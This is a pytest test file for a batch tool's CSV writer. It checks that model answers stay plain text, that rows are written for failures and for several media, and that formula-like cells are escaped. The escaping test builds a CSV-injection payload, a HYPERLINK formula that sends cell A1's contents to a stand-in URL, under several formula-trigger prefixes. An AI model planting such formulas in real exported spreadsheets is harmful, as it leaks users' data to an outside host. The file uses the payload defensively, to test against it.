# SPDX-License-Identifier: Apache-2.0
"""What a table says. That it is whole or not at all is in test_report.py, for both."""

from __future__ import annotations

import csv

import pytest
from batch.stub import NASTY, RECORD

from llava_cli.batch.writers.table import COLUMNS, CsvFile


def rows_of(tmp_path, *records) -> list[dict]:
    table = CsvFile(tmp_path / "t.csv")
    table.put([(record, True) for record in records], [])
    table.close()
    with (tmp_path / "t.csv").open(newline="") as file:
        return list(csv.DictReader(file))


def test_what_a_model_says_is_text(tmp_path):
    (row,) = rows_of(tmp_path, RECORD)
    assert row["answer"] == NASTY.replace("\udcff", "\\udcff")


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", "\r\n@", " =", "\uff1d"])
def test_no_cell_is_a_formula(tmp_path, sign):
    """A model's answer, a file's name and a question are text to a spreadsheet, whatever they begin with."""
    text = sign + 'HYPERLINK("https://example.org/?"&A1)'
    (row,) = rows_of(
        tmp_path, {"id": text, "status": "ok", "media": [{"path": text}], "question": text, "answer": text}
    )
    for column in ("id", "media", "question", "answer"):
        assert row[column].startswith("'")
        assert row[column].endswith(text.strip())
        assert not set(row[column]) & {"\t", "\r"}


def test_what_is_no_formula_stays_as_it_is(tmp_path):
    for text in ("a = b", "1-2", "me@example.org", "-", "yes\nno", ""):
        (row,) = rows_of(tmp_path, RECORD | {"answer": text})
        assert row["answer"] == ("'-" if text == "-" else text)
    (row,) = rows_of(tmp_path, RECORD | {"id": -5, "answer": "a\tb\rc\x1b[31m"})
    assert (row["id"], row["answer"]) == ("-5", "a b c [31m")


def test_failures_and_several_media_are_rows_too(tmp_path):
    error = {"id": 2, "status": "error", "media": [], "question": "", "error": {"code": "job", "message": "is bad"}}
    two, failed = rows_of(tmp_path, RECORD | {"media": [{"path": "a"}, {"path": "b"}]}, error)
    assert tuple(two) == COLUMNS
    assert two["media"] == '["a", "b"]'
    assert (failed["status"], failed["media"], failed["answer"], failed["error"]) == ("error", "", "", "is bad")
